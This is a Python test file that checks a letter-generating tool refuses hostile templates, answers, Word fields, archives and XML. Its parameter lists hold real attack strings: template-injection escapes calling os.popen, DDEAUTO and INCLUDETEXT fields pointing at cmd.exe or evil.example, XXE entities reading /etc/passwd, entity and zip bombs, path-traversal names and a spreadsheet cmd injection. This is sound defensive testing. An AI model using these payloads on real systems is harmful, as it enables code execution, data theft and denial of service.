"""Attacks with real payloads: on the office through templates, prompts and answers, on readers through letters.

What is promised here is written down in SECURITY.md, promise by promise.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Any

import helpers.documents as word
import pytest
from helpers.batches import vetted_library

from letters._system.output import safe_stem
from letters._system.resource_limits import patience, within_limits
from letters._text.quotation_marks import typeset
from letters._text.usage import usage_mistakes
from letters.assembly.assembler import Assembler
from letters.assembly.letter_pdf import LetterConverter
from letters.assembly.template.document_properties import DocumentProperties
from letters.assembly.template.shared_passages import SharedPassages
from letters.assembly.template.template import Template, fill_text
from letters.batches.worker_pool import process_pool
from letters.docx.names import W
from letters.docx.package import NotAWordFile, Package, members_of, open_package, parse_xml, write_package
from letters.docx.package import Packed as Member
from letters.errors import InvalidAnswers, LettersError, TemplateAtFault
from letters.library.answers import parse_answers
from letters.library.library import Library
from letters.library.prompts import load_questionnaire
from letters.linter.lint import lint_files
from letters.pdf.convert import convert
from letters.pdf.field_results import computed_results
from letters.pdf.size_limits import CannotConvert
from letters.provenance.letter_text import text_of_package
from letters.provenance.verify import Verifier

Sample = Callable[[str], dict[str, Any]]
PROPERTIES = DocumentProperties("Letter", "Office", "en-US", date(2019, 8, 2))
DAY = date(2019, 8, 2)


def fill(body: str, context: dict[str, Any] | None = None, **more: Any) -> bytes:
    return Template.compile(word.docx(body, **more), "t.docx").fill(context or {}, PROPERTIES)


def words_in(docx: bytes) -> str:
    """What its body says, paragraphs and lines parted by spaces."""
    root = open_package(docx, "l.docx").xml("word/document.xml")
    return " ".join("".join(_said(node) for node in paragraph.iter()) for paragraph in root.iter(f"{{{W}}}p"))


def _said(node: Any) -> str:
    return {f"{{{W}}}t": node.text or "", f"{{{W}}}br": " ", f"{{{W}}}tab": " "}.get(node.tag, "")


# --- templates cannot run code ---------------------------------------------------------------------------------------

ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x.__class__ }}",
    "{{ x['__class__'] }}",
    "{{ x|attr('__class__') }}",
    "{{ x['__cla' + 'ss__'] }}",
    "{{ self }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ config }}",
    "{{ request.application.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ namespace(a=1) }}",
    "{{ joiner()() }}",
    "{{ range(999999999) }}",
    "{{ dict(a=1) }}",
    "{{ x.upper() }}",
    "{{ x.format(x) }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '{0.__class__}' % x }}",
    "{{ '%(a)s' % x }}",
    "{{ x|map('upper') }}",
    "{{ x|format(x) }}",
    "{{ x|safe }}",
    "{{ x|tojson }}",
    "{{ x|xmlattr }}",
    "{{ x|pprint }}",
    "{{ x is filter('upper') }}",
    "{{ x ~ x }}",
    "{{ x ** 9999999 }}",
    "{{ 9**9**9 }}",
    "{{ 'a' * 999999999 }}",
    "{{ x if x }}",
    "{% set y = x %}",
    "{% import 'os' as os %}",
    "{% from '/etc/passwd' import x %}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% macro m() %}{% endmacro %}",
    "{% call x() %}{% endcall %}",
    "{% filter upper %}{% endfilter %}",
    "{% with y = x %}{% endwith %}",
    "{% raw %}{% endraw %}",
    "{% do x %}",
    "{% autoescape false %}{{ x }}{% endautoescape %}",
    "{% block b %}{% endblock %}",
    "{% for a in x recursive %}{{ loop(a) }}{% endfor %}",
    "{% for a in x if a.__class__ %}{{ a }}{% endfor %}",
    "{{ loop }}",
    "{{ text__ }}",
    "{{ x|rounds__ }}",
    "{{ budget__ }}",
    "{{ caller() }}",
    "{{ _ }}",
    "{{ __builtins__ }}",
    "{{ True.__class__ }}",
    "{{ (1).__class__ }}",
    "{{ [].append }}",
]


@pytest.mark.parametrize("payload", ESCAPES)
def test_a_template_cannot_run_code(payload: str) -> None:
    with pytest.raises(TemplateAtFault) as refusal:
        fill(word.paragraph(payload), {"x": "value"})
    assert "body, paragraph 1" in str(refusal.value)
    assert "Traceback" not in str(refusal.value)


@pytest.mark.parametrize("payload", [each for each in ESCAPES if "_passwd" not in each])
def test_a_text_by_the_office_cannot_run_code_either(payload: str) -> None:
    with pytest.raises(TemplateAtFault, match=r"conditions\.toml"):
        fill_text(payload, {"x": "value"}, "conditions.toml, term")


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..\\x", "sig/../../x", "C:\\x", "nul", "sig\x00"])
def test_a_passage_is_a_file_of_the_shared_folder(name: str) -> None:
    asked: list[str] = []

    def read(wanted: str) -> bytes:
        asked.append(wanted)
        raise AssertionError("read")

    passages = SharedPassages("shared", ("signature",), read)
    shown = name.replace("\x00", "")
    body = word.paragraph("{%p include “" + shown + "” %}") + word.paragraph("x")
    with pytest.raises(TemplateAtFault):
        Template.compile(word.docx(body), "t.docx", passages)
    assert asked == []


# --- nor go on for ever ----------------------------------------------------------------------------------------------

MANY = ["a"] * 400


@pytest.mark.parametrize(
    ("payload", "context"),
    [
        ("{% for a in x %}{% for b in x %}{% for c in x %}z{% endfor %}{% endfor %}{% endfor %}", {"x": MANY}),
        ("{% for a in x %}{{ y }}{% endfor %}", {"x": MANY, "y": "y" * 60_000}),
        ("{{ y + y + y + y + y + y + y + y }}" * 20, {"y": "y" * 500_000}),
        ("{{ x|join(y) }}", {"x": MANY * 50, "y": "b" * 100_000}),
        ("{{ x|join(y)|length }}", {"x": MANY * 50, "y": "b" * 100_000}),
    ],
)
def test_a_template_that_would_never_end_is_refused(payload: str, context: dict[str, Any]) -> None:
    with pytest.raises(TemplateAtFault, match=r"larger than any letter|loops of this letter run more than|not a list"):
        fill(word.paragraph(payload), context)


ALTERNATIVE = (
    '<w:r><mc:AlternateContent><mc:Choice Requires="zz"/><mc:Fallback><w:t>x</w:t></mc:Fallback></mc:AlternateContent>'
    "</w:r>"
)


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def opened(body: str) -> Package:
    return open_package(word.docx(body), "t.docx")


def spin(seconds: float) -> None:
    with within_limits("The letter", seconds=seconds):
        while True:
            pass


def test_a_tag_spread_over_many_runs_is_read_within_the_limits_of_a_letter(assembler: Assembler) -> None:
    """Word may split a text into a run for each letter; time that grows with its square would exceed the limits."""
    body = f"<w:p>{''.join(map(word.text, '{{ name }} ' * 1500))}</w:p>"
    report = lint_files({"t.docx": word.docx(body)}, assembler, "denial")
    assert report.has_errors
    assert "beyond-time" not in {each.code for each in report.findings}


def test_an_element_with_thousands_of_attributes_is_refused() -> None:
    attributes = " ".join(f'w:x{at}="1"' for at in range(3000))
    with pytest.raises(NotAWordFile, match="thousands of attributes"):
        open_package(word.docx(f"<w:p {attributes}/>"), "t.docx").tree("word/document.xml")


REFERENCES = word.field("REF b", "words") * 4000


@pytest.mark.parametrize(
    "read",
    [
        lambda: computed_results(opened(f'<w:p><w:bookmarkStart w:id="1" w:name="b"/>{word.text("words")}'
                                        f'<w:bookmarkEnd w:id="1"/>{REFERENCES}</w:p>')),
        lambda: text_of_package(opened("<w:p>" + ALTERNATIVE * 4000 + "</w:p>")),
        lambda: list(usage_mistakes("x" * 60_000)),
    ],
    ids=["references", "alternatives", "a long word"],
)  # fmt: skip
def test_what_is_twice_as_long_takes_no_more_than_twice_as_long(read: Callable[[], object]) -> None:
    """With time that grows with its square, each would exceed the limit several times over."""
    with within_limits("t.docx", 2):
        read()


def test_a_letter_that_takes_too_long_is_refused_by_pdf_and_verify(
    assembler: Assembler, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("assembly.letter_pdf", "provenance.verify"):
        monkeypatch.setattr(f"letters.{module}.SECONDS", 0.01)
    long = word.docx("".join(word.paragraph(f"Words of letter {at}. ") for at in range(4000)))
    with pytest.raises(CannotConvert, match=r"long\.docx: Converting it takes more than 0\.01 seconds") as refusal:
        LetterConverter(assembler.library).convert(long, "long.docx")
    assert refusal.value.exit_code == 1
    with pytest.raises(LettersError, match=r"long\.docx: Reading it takes more than 0\.01 seconds"):
        Verifier(assembler).verify(long, "long.docx")


def test_a_slow_computer_is_given_more_time(monkeypatch: pytest.MonkeyPatch) -> None:
    for told, times in (("4", 4), ("0.1", 1), ("1000", 100), ("much", 1)):
        monkeypatch.setenv("LETTERS_PATIENCE", told)
        assert patience() == times
    monkeypatch.setenv("LETTERS_PATIENCE", "2")
    with pytest.raises(TemplateAtFault, match=r"more than 0\.2 seconds.*LETTERS_PATIENCE"):
        spin(0.1)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # it may end while a file is opened
def test_a_template_that_cannot_be_filled_is_read_once(library: Library, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("letters.assembly.assembler.READING_SECONDS", 0.001)
    monkeypatch.setattr("letters._text.between_runs._store", None)  # it is to be read now
    assembler = Assembler(library)
    with pytest.raises(TemplateAtFault) as first:
        assembler.template("denial")
    monkeypatch.undo()
    with pytest.raises(TemplateAtFault) as second:
        assembler.template("denial")
    assert second.value.problems == first.value.problems


def test_what_is_nested_too_deep_is_a_finding_and_not_the_end(assembler: Assembler) -> None:
    begin = f"{mark('begin')}<w:r><w:instrText>REF x</w:instrText></w:r>{mark('separate')}"
    deep = word.docx(word.paragraph(inner=begin * 2000 + word.text("x") + mark("end") * 2000))
    for kind in ("", "denial"):
        (found,) = lint_files({"t.docx": deep}, assembler, kind).findings
        assert "nested too deep" in found.message


def test_a_zip_of_a_million_members_is_not_even_listed() -> None:
    with pytest.raises(NotAWordFile, match="more than 20,000 parts"):
        open_package(word.docx("<w:p/>") + b"PK\x01\x02" * 20_001, "t.docx")


def test_the_processor_time_of_a_thread_is_limited() -> None:
    with ThreadPoolExecutor(1) as threads, pytest.raises(TemplateAtFault, match=r"more than 0\.1 seconds"):
        threads.submit(spin, 0.1).result()


def test_the_processor_time_of_a_letter_is_limited() -> None:
    with pytest.raises(TemplateAtFault, match=r"more than 0\.2 seconds of processor time") as refusal:
        spin(0.2)
    assert refusal.value.problems[0].code == "beyond-time"
    assert refusal.value.exit_code == 3


def spin_within(outer: float) -> None:
    with within_limits("The outer", seconds=outer):
        with within_limits("The inner", seconds=30):
            pass
        with pytest.raises(TemplateAtFault, match="The letter"):
            spin(0.1)
        spin(30)


def test_nested_limits_leave_the_outer_ones_in_force() -> None:
    with pytest.raises(TemplateAtFault, match="more than any letter needs"):
        spin_within(0.4)


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="the system does not say how much memory is used")
def test_the_memory_of_a_letter_is_limited_and_available_again_for_the_next() -> None:
    with pytest.raises(TemplateAtFault, match="64 MB of memory"), within_limits("The letter", megabytes=64):
        b"x" * (200 * 1024 * 1024)
    assert len(b"x" * (200 * 1024 * 1024)) > 0


def test_the_limits_hold_in_the_workers_of_a_batch_which_live_on() -> None:
    with process_pool([])(1) as executor:
        for _ in range(2):
            with pytest.raises(TemplateAtFault, match="of processor time"):
                executor.submit(spin, 0.1).result(timeout=60)


# --- nor fetch -------------------------------------------------------------------------------------------------------


def simple_field(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def field_of(*pieces: str) -> str:
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    "body",
    [
        field_of("INCLUDETEXT http://evil.example/x"),
        field_of("INCLUDE", "TEXT http://evil.example/x"),
        field_of(" I", "N", "CLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d"),
        field_of("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"),
        field_of("dde", " x y"),
        field_of("DATABASE \\d x"),
        field_of("RD c:\\\\x.docx"),
        field_of("PRINT 27&quot;x&quot;"),
        field_of("FILENAME \\p"),
        field_of("USERNAME"),
        field_of("HYPERLINK &quot;javascript:alert(1)&quot;"),
        field_of("HYPERLINK &quot;file:///c:/windows/x.exe&quot;"),
        field_of("HYPERLINK \\\\evil\\share").replace("HYPERLINK \\\\", "HYPERLINK smb://"),
        field_of("{{ x }}"),
        field_of(" {{ x }} http://evil.example"),
        simple_field("LINK Excel.Sheet.8 c:\\\\x.xlsx"),
        simple_field("{{ x }}"),
    ],
)
def test_a_field_that_loads_runs_or_reveals_something_is_refused(body: str) -> None:
    with pytest.raises(TemplateAtFault, match="field") as refusal:
        fill(body, {"x": "INCLUDETEXT http://evil.example/x"})
    assert {problem.code for problem in refusal.value.problems} <= {"outside"}


def test_fields_for_numbering_and_references_stay() -> None:
    body = field_of("PAGE") + field_of("HYPERLINK &quot;https://www.dws.state.nm.us&quot;") + simple_field("NUMPAGES")
    assert words_in(fill(body))


def test_a_picture_from_outside_is_refused() -> None:
    data = word.docx(word.paragraph(inner=word.picture()), pictures={"rIdPicture": word.PIXEL})
    parts = dict(open_package(data, "t.docx").parts)
    links = parts["word/_rels/document.xml.rels"].replace(
        b'Target="media/rIdPicture.png"', b'Target="http://evil.example/x.png" TargetMode="External"'
    )
    changed = write_package(
        Member.of(name, each) for name, each in (parts | {"word/_rels/document.xml.rels": links}).items()
    )
    with pytest.raises(TemplateAtFault, match="loads something from outside"):
        Template.compile(changed, "t.docx")


@pytest.mark.parametrize(
    "place", ["javascript:app.alert(1)", "file:///etc/passwd", "\\\\evil\\share", "vbscript:x", "data:x,y"]
)
def test_a_link_in_a_letter_leads_to_the_web_or_nowhere(place: str) -> None:
    body = word.paragraph(inner=f'<w:hyperlink r:id="rL">{word.text("here")}</w:hyperlink>')
    printed = convert(word.docx(body, links={"rL": place}), dated=DAY)
    assert b"/URI" not in printed.data
    assert b"/Launch" not in printed.data
    assert b"/JavaScript" not in printed.data
    assert "is removed" in printed.notes[0].message


# --- answers cannot inject -------------------------------------------------------------------------------------------

INJECTIONS = [
    "{{ office.name }}",
    "{% for x in y %}",
    "{%p include 'signature' %}",
    "{# #}",
    "{{ ''.__class__ }}",
    "</w:t></w:r></w:p><w:p><w:r><w:t>forged",
    "<w:fldSimple w:instr='DDEAUTO c cmd'/>",
    "<![CDATA[x]]>",
    "]]>",
    "<!-- x -->",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<script>alert(1)</script>",
    "<img src='file:///etc/passwd'>",
    "</style><style>@import url(file:///etc/passwd)",
    "${body} $title",
    "{ INCLUDETEXT c:\\x }",
    "=cmd|' /C calc'!A0",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_an_answer_is_only_ever_printed_as_text(assembler: Assembler, sample: Sample, payload: str) -> None:
    answers = sample("denial")
    answers["request"]["sought"] = f"the records {payload} of"
    plain = assembler.make(assembler.check(sample("denial")), ["docx"]).files["docx"]
    made = assembler.make(assembler.check(answers)).files
    said = typeset(f"the records {payload} of")
    assert " ".join(said.split()) in " ".join(words_in(made["docx"]).split())
    assert tags_of(made["docx"]) == tags_of(plain)
    assert made["pdf"].startswith(b"%PDF")  # its words were compared with the Word letter's on the way
    assert b"/JavaScript" not in made["pdf"]


def test_the_code_of_a_web_page_is_refused_by_its_field(assembler: Assembler, sample: Sample) -> None:
    answers = sample("denial")
    answers["request"]["sought"] = "the records &amp;lt;script&amp;gt; of"
    with pytest.raises(InvalidAnswers, match=r"Records sought .* the code of a web page"):
        assembler.check(answers)


def tags_of(docx: bytes) -> list[tuple[str, int]]:
    """How many elements of each sort a letter's parts have: words alone must not change it."""
    package = open_package(docx, "l.docx")
    found: dict[str, int] = {}
    for part in package.parts:
        if part.endswith((".xml", ".rels")):
            for node in package.xml(part).iter():
                found[str(node.tag)] = found.get(str(node.tag), 0) + 1
    return sorted(found.items())


def test_a_link_in_a_field_is_checked_when_it_is_filled(tmp_path: Path) -> None:
    """The address of a HYPERLINK field may come from an answer; the letter with a wicked one is not finished."""
    from letters.privacy.disclosure_scan import DisclosureScan

    body = field_of("HYPERLINK &quot;{{ x }}&quot;")
    assert DisclosureScan().check(members_of(fill(body, {"x": "https://www.dws.state.nm.us"})), "l") == ()
    for wicked in ("javascript:alert(1)", "file:///c:/x.exe", "smb://evil.example/x", "JaVaScRiPt:x"):
        with pytest.raises(TemplateAtFault, match=r"not the address of a web page"):
            DisclosureScan().check(members_of(fill(body, {"x": wicked})), "l")
    for quoted in ('x" \\o "y', "\\\\evil\\share"):
        with pytest.raises(TemplateAtFault, match="address of a link"):
            fill(body, {"x": quoted})


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/x",
        "/etc/x",
        "C:\\x",
        "..",
        ".",
        "~",
        "NUL",
        "con.txt",
        "a\x00b",
        "a/b",
        "\u202ex",
        "-rf",
        " x ",
        "\n",
    ],
)
def test_a_name_from_an_answer_stays_in_its_folder(name: str) -> None:
    stem = safe_stem(name)
    assert stem
    assert all(character.isalnum() or character in "._-" for character in stem)
    assert len(stem.encode()) <= 100
    assert not stem.startswith((".", "-"))
    assert stem.split(".")[0].lower() not in ("nul", "con", "aux", "prn")


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("Straße Ødegård", "Strasse-Odegard"),
        ("Łódź, Ærø", "Lodz-AEro"),
        ("Министерство труда", "Министерство-труда"),
        ("労働省 2019", "労働省-2019"),
    ],
)
def test_file_names_stay_readable(name: str, stem: str) -> None:
    assert safe_stem(name) == stem


@pytest.mark.parametrize("kind", ["../denial", "/etc", "denial/../denial", "", ".", "nul", "denial\x00"])
def test_a_kind_is_one_of_the_library_s(assembler: Assembler, sample: Sample, kind: str) -> None:
    with pytest.raises(InvalidAnswers):
        assembler.check(sample("denial") | {"kind": kind})


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"a = " + b"[" * 100_000, "a.toml"),
        (b"[" * 100_000, "a.json"),
        (b'{"a":' * 50_000, "a.json"),
        (b"a." * 50_000 + b"b = 1", "a.toml"),
        (b"a = " + b"9" * 10_000, "a.toml"),
        (b"a = 1e999999999", "a.toml"),
        (b"\xff\xfe\x00\x00", "a.toml"),
        (b"a = 1\na = 2", "a.toml"),
        (b'{"a": 1, "a": 2}', "a.json"),
        (b'{"__proto__": {"x": 1}}', "a.json"),
    ],
)
def test_a_malicious_answers_file_gives_an_error_message(assembler: Assembler, data: bytes, name: str) -> None:
    with pytest.raises(InvalidAnswers) as refusal:
        assembler.check(parse_answers(data, name))
    assert len(str(refusal.value)) < 5_000


# --- archives cannot escape, explode or name devices -----------------------------------------------------------------


def archive(members: dict[str, bytes], **more: Any) -> bytes:
    parts = dict(open_package(word.docx(word.paragraph("x")), "x").parts) | members
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return file.getvalue()


@pytest.mark.parametrize(
    "name", ["../x.xml", "/etc/x.xml", "word/../../x.xml", "..\\x.xml", "C:\\x.xml", "word\\x.xml", "word//../x.xml"]
)
def test_an_archive_cannot_escape(name: str) -> None:
    with pytest.raises(NotAWordFile, match="unsafe name"):
        open_package(archive({name: b"<x/>"}), "x.docx")


@pytest.mark.parametrize("name", ["word/nul", "word/CON.xml", "word/aux.xml", "word/com1.xml", "lpt9"])
def test_a_device_named_in_an_archive_is_never_a_file(name: str, tmp_path: Path) -> None:
    """Nothing of an archive is ever unpacked onto a disk; and no letter carries what nothing leads to."""
    made = Template.compile(archive({name: b"<x/>"}), "x.docx").fill({}, PROPERTIES)
    assert name not in open_package(made, "x.docx").parts


def test_an_archive_cannot_explode() -> None:
    with pytest.raises(NotAWordFile, match="unpack to"):
        open_package(archive({"word/bomb.xml": b" " * 60_000_000}), "x.docx")
    with pytest.raises(NotAWordFile, match="parts"):
        open_package(archive({f"word/{number}.xml": b"" for number in range(3_000)}), "x.docx")


def test_a_false_size_is_detected() -> None:
    data = archive({"word/bomb.xml": b" " * 30_000_000})
    at = data.rindex(b"word/bomb.xml") - 46
    lying = data[: at + 24] + struct.pack("<I", 10) + data[at + 28 :]
    with pytest.raises(NotAWordFile):
        open_package(lying, "x.docx")


BOMB = (
    b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
    b"<w>&c;</w>"
)


@pytest.mark.parametrize(
    "xml",
    [
        BOMB,
        b'<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w/>',
        b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
        b"<?xml version='1.0'?>" + b"<!-- " + b"x" * 5_000 + b" -->" + BOMB,
        BOMB.decode().encode("utf-16"),
        b'<!DOCTYPE w [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]><w/>',
    ],
)
def test_an_entity_is_never_expanded(xml: bytes) -> None:
    with pytest.raises(NotAWordFile):
        open_package(archive({"word/styles.xml": xml}), "x.docx").xml("word/styles.xml")


def test_a_letter_keeps_no_part_without_a_link_to_it(tmp_path: Path) -> None:
    wicked = {"word/vba.txt": b"x", "customXml/item1.xml": b"<secret/>", "evil.exe": b"MZ"}
    made = open_package(Template.compile(archive(wicked), "x.docx").fill({}, PROPERTIES), "x.docx")
    assert isinstance(made, Package)
    assert not set(wicked) & set(made.parts)


def test_a_library_whose_prompts_hold_code_is_only_read(tmp_path: Path) -> None:
    library = vetted_library(tmp_path / "library")
    file = library / "prompts" / "denial.toml"
    text = file.read_text(encoding="utf-8")
    file.write_text(
        text.replace("ask = ", "when = \"__import__('os').system('touch owned')\"\nask = ", 1), encoding="utf-8"
    )
    with pytest.raises(LettersError):
        load_questionnaire(Library(library), "denial")
    assert not (tmp_path / "owned").exists()


# --- files from anywhere ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b'<?xml version="1.0" encoding="UTF-7"?><w:document/>', "the encoding “UTF-7”"),
        (b"\xef\xbb\xbf<?xml version='1.0' standalone='yes' encoding='hz-gb-2312'?><a/>", "the encoding “hz-gb-2312”"),
        ('<?xml version="1.0" encoding="utf-32"?><a/>'.encode("utf-32-le"), "an unusual encoding"),
        ("<a/>".encode("utf-32"), "an unusual encoding"),
        ('<?xml version="1.0"?><a/>'.encode("cp037"), "an unusual encoding"),
    ],
)
def test_xml_in_an_encoding_that_others_read_differently_is_refused(data: bytes, told: str) -> None:
    with pytest.raises(NotAWordFile, match=told):
        parse_xml(data, "word/document.xml", "t.docx")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_xml_in_the_encodings_of_word_is_read(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?><a>ü</a>'.encode(encoding)
    assert parse_xml(data, "word/document.xml", "t.docx").text == "ü"


def test_a_thousand_bookmarks_of_one_name_take_no_longer_than_a_thousand_others() -> None:
    marks = "".join(f'<w:bookmarkStart w:id="{at}" w:name="b"/><w:bookmarkEnd w:id="{at}"/>' for at in range(12_000))
    with within_limits("t.docx"):
        assert not lint_files({"t.docx": word.docx(f"<w:p>{marks}</w:p>")}).has_errors


def test_a_file_that_takes_too_long_to_read_is_a_finding_and_not_the_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("letters.linter.lint.READING_SECONDS", 0.01)
    slow = word.docx(word.paragraph("{{ a }} ") * 3000)
    report = lint_files({"slow.docx": slow, "other.docx": b"no zip"})
    assert [(each.file, each.code) for each in report.findings] == [
        ("slow.docx", "beyond-time"),
        ("other.docx", "not-a-word-file"),
    ]
    assert "Reading it takes more than 0.01 seconds" in report.findings[0].message
